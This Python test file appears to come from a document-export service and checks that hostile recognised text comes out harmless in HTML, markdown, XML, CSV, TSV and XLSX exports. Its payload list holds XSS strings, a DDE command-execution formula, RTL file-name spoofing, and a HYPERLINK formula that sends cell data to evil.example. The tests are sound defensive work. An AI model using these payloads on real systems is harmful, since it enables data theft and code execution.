"""Recognised text is only text in every format, whatever it says."""

import csv
import io
import re

import html5lib
import openpyxl
import pandas
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree
from markdown_it import MarkdownIt

from services.exports.formats import BY_NAME, FORMATS, OUTPUTS
from services.exports.spreadsheets import neutralised
from tests.support.results import block, document, exported, line, page, table

NAMES = [each.name for each in FORMATS if each.name != "json" and each.name not in OUTPUTS]
PIECES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[a](javascript:alert(1))",
    "](javascript:alert(1))",
    "![a](http://evil.example/x.png)",
    "<javascript:alert(1)>",
    "\u202egnp.exe",
    "\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
    "\x00",
    "\ud800",
    "\udfff",
    "\x1b[31m",
    "\ufffe\uffff\ufdd0",
    "\u2028\u2029\x85\x0b\x0c",
    '" onmouseover="alert(1)',
    "'; x_wconf 0; bbox 9 9 9 9",
    "]]>",
    "--><script>",
    "&lt;script&gt;",
    "@SUM(A1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    "| --- |",
    "\\",
    "```",
    "<table><tr>",
]
FORBIDDEN = re.compile("[\x00-\x08\x0b\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ufffe\uffff]")
TEXTS = st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=8)), min_size=1, max_size=4).map("".join)


def with_text(text):
    """A document that has the text everywhere."""
    cells = table([["head", text], [text, "x"]])
    spans = {**cells, "cells": [{**cells["cells"][0], "text": text, "colspan": 2}]}
    kinds = ("title", "heading", "paragraph", "list_item", "figure", "caption", "footnote", "page_header", "text")
    blocks = [block(kind, text, [0], level=2, marker=text[:3]) for kind in kinds]
    return document(page([line(text, 0, words=True), line(text, 1)], [*blocks, cells, spans]))


def check_html(content):
    tree = html5lib.HTMLParser(strict=True, namespaceHTMLElements=False).parse(content.decode())
    allowed = {"class", "id", "title", "lang", "aria-label", "colspan", "rowspan", "value", "charset"}
    for element in tree.find("body").iter():
        assert element.tag in (
            *("body", "main", "section", "header", "footer", "aside", "figure", "p", "br", "ul", "ol", "li"),
            *("h1", "h2", "table", "thead", "tbody", "tr", "th", "td"),
        )
        assert set(element.attrib) <= allowed
    return tree


def check_markdown(content):
    for token in MarkdownIt("commonmark").enable("table").parse(content.decode()):
        assert token.type not in ("link_open", "image", "fence", "code_block", "blockquote_open", "hr")
        if token.type == "html_block":
            found = re.findall(r"<(/?\w+)", token.content)
            assert {name.strip("/") for name in found} <= {"table", "thead", "tbody", "tr", "th", "td", "br"}
        for child in token.children or []:
            assert child.type in ("text", "text_special", "softbreak")


def check_csv(content):
    for row in csv.reader(io.StringIO(content.decode(), newline="")):
        assert all(neutralised(cell) == cell for cell in row)


def check_xlsx(content):
    for sheet in openpyxl.load_workbook(io.BytesIO(content)):
        for row in sheet.rows:
            for found in row:
                assert found.data_type in ("s", "n") and (
                    found.value is None or neutralised(found.value) == found.value
                )


def check_tsv(content):
    read = pandas.read_csv(io.BytesIO(content), sep="\t", quoting=3, keep_default_na=False, dtype=str)
    assert all(neutralised(text) == text for text in read.text)
    assert {len(row.split("\t")) for row in content.decode().strip("\n").split("\n")} == {12}


def check_xml(content):
    tree = etree.fromstring(content, etree.XMLParser(resolve_entities=False))
    assert {etree.QName(element).localname for element in tree.iter()}.isdisjoint({"script", "img", "a"})
    for title in tree.xpath("//@title"):
        assert title.count("bbox ") == 1


CHECKS = {
    "text": bytes.decode,
    "markdown": check_markdown,
    "html": check_html,
    "hocr": check_xml,
    "alto": check_xml,
    "tsv": check_tsv,
    "csv": lambda content: None,
    "xlsx": check_xlsx,
}


def test_every_format_is_checked():
    assert CHECKS.keys() == set(NAMES)


@pytest.mark.parametrize("name", NAMES)
@given(text=TEXTS)
@settings(max_examples=15, deadline=None)
def test_hostile_text_is_harmless(name, text):
    content = exported(name, with_text(text), filename=text)
    if name not in ("xlsx", "csv"):
        assert not FORBIDDEN.search(content.decode().replace("\x0c", ""))
    CHECKS[name](content)


@given(text=TEXTS)
@settings(max_examples=15, deadline=None)
def test_a_csv_cell_is_harmless(text):
    content = exported("csv", document(page([], [table([["head", text], [text, "x"]])])))
    assert not FORBIDDEN.search(content.decode())
    check_csv(content)


@pytest.mark.parametrize("name", NAMES)
def test_every_known_piece_is_harmless(name):
    for text in PIECES:
        CHECKS[name](exported(name, with_text(text), filename=text))


def test_all_modules_exist():
    assert all(callable(BY_NAME[name].export) for name in NAMES)
